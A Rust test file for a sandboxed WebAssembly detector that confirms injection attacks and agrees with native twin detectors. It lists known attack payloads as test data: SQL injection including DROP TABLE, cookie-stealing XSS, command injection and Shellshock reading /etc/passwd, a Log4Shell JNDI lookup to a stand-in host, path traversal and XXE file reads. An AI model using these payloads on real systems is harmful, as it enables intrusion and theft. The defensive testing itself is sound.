//! The built-in twin guest, run in the sandbox: it has no imports, confirms
//! real attacks, leaves benign values alone, and agrees with the native
//! twins on every input.

use std::sync::OnceLock;

use proptest::prelude::*;
use sentinel_sandbox::{GuestModule, Sandbox, SandboxConfig};
use sentinel_schema::NoAudit;

fn twins() -> &'static (Sandbox, GuestModule) {
    static T: OnceLock<(Sandbox, GuestModule)> = OnceLock::new();
    T.get_or_init(|| {
        let sb = Sandbox::new(
            SandboxConfig {
                pool_slots: 8,
                ..SandboxConfig::default()
            },
            std::sync::Arc::new(NoAudit),
        )
        .unwrap();
        let m = sb.twins(None).unwrap();
        (sb, m)
    })
}

fn confirmed(class: &str, payload: &str) -> bool {
    let (sb, m) = twins();
    sb.simulate(m, class, payload.as_bytes())
        .report
        .unwrap_or_else(|e| panic!("{class} {payload}: {e}"))
        .exploit
}

#[test]
fn the_guest_imports_nothing() {
    let engine = wasmtime::Engine::default();
    let module = wasmtime::Module::new(&engine, sentinel_sandbox::guests::TWIN_GUEST_WASM).unwrap();
    assert_eq!(module.imports().count(), 0);
}

#[test]
fn attacks_are_confirmed_with_evidence() {
    let (sb, m) = twins();
    for (class, payload) in [
        ("sqli", "1' OR '1'='1"),
        ("sqli", "1 UNION SELECT username, password FROM users--"),
        ("sqli", "1; DROP TABLE users"),
        ("sqli", "1' AND SLEEP(5)-- -"),
        ("xss", "<script>alert(1)</script>"),
        ("xss", "\" onmouseover=\"alert(1)"),
        ("xss", "javascript:alert(document.cookie)"),
        ("cmdi", "127.0.0.1; cat /etc/passwd"),
        ("cmdi", "$(id)"),
        ("cmdi", "() { :; }; /bin/bash -c 'id'"),
        ("cmdi", "${jndi:ldap://evil.example/a}"),
        ("path_traversal", "../../../../etc/passwd"),
        ("path_traversal", "..%252f..%252f..%252fetc%252fpasswd"),
        ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ] {
        let sim = sb.simulate(m, class, payload.as_bytes());
        let r = sim.report.unwrap();
        assert!(r.exploit, "{class}: {payload}");
        assert!(r.context.is_some() && !r.contexts.is_empty() && !r.evidence.is_empty(), "{r:?}");
        assert!(sim.fuel_used > 0);
    }
}

#[test]
fn benign_values_are_not_confirmed() {
    for (class, payload) in [
        ("sqli", "O'Brien"),
        ("sqli", "select a dish from the menu"),
        ("sqli", "42"),
        ("xss", "I <3 cats & dogs"),
        ("xss", "https://example.com/a?b=c"),
        ("cmdi", "hello world"),
        ("cmdi", "ping me tomorrow"),
        ("path_traversal", "images/logo.png"),
        ("xxe", "<note><to>Tove</to></note>"),
        ("csrf", "anything"),
    ] {
        assert!(!confirmed(class, payload), "{class}: {payload}");
    }
}

fn native(class: &str, payload: &str) -> bool {
    let family = match class {
        "sqli" => sentinel_twins::Family::Sql,
        "xss" => sentinel_twins::Family::Xss,
        "cmdi" => sentinel_twins::Family::Command,
        "path_traversal" => sentinel_twins::Family::Traversal,
        _ => sentinel_twins::Family::Xxe,
    };
    sentinel_twins::run(family, payload).is_some()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]
    #[test]
    fn wasm_and_native_twins_agree(
        class in prop::sample::select(vec!["sqli", "xss", "cmdi", "path_traversal", "xxe"]),
        parts in proptest::collection::vec(prop_oneof![
            Just("'"), Just("\""), Just("<"), Just(">"), Just(" or "), Just("1=1"), Just("--"),
            Just("script"), Just("onerror="), Just(";"), Just("$("), Just(")"), Just("id"),
            Just("../"), Just("%2e"), Just("etc/passwd"), Just("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]>"),
            Just("&x;"), Just("a"), Just(" "), Just("union select"),
        ], 0..12),
    ) {
        let payload = parts.concat();
        prop_assert_eq!(confirmed(class, &payload), native(class, &payload), "{} {}", class, payload);
    }
}

/// Deeply nested SQL reaches the parser's own recursion limit (depth 50)
/// instead of the stack: without `recursive-protection` (whose stack
/// switching cost every wasm32 parser call a fresh 2 MiB stack) the twin
/// must still answer, in the sandbox and natively, and both must agree.
#[test]
fn deeply_nested_sql_is_answered_not_crashed() {
    let (sb, m) = twins();
    for depth in [10, 60, 5_000] {
        let payload = format!("1' OR {}1{} = 1 -- ", "(".repeat(depth), ")".repeat(depth));
        let sim = sb.simulate(m, "sqli", payload.as_bytes());
        let report = sim
            .report
            .unwrap_or_else(|e| panic!("depth {depth}: the twin failed: {e}"));
        assert_eq!(report.exploit, native("sqli", &payload), "depth {depth}");
    }
}
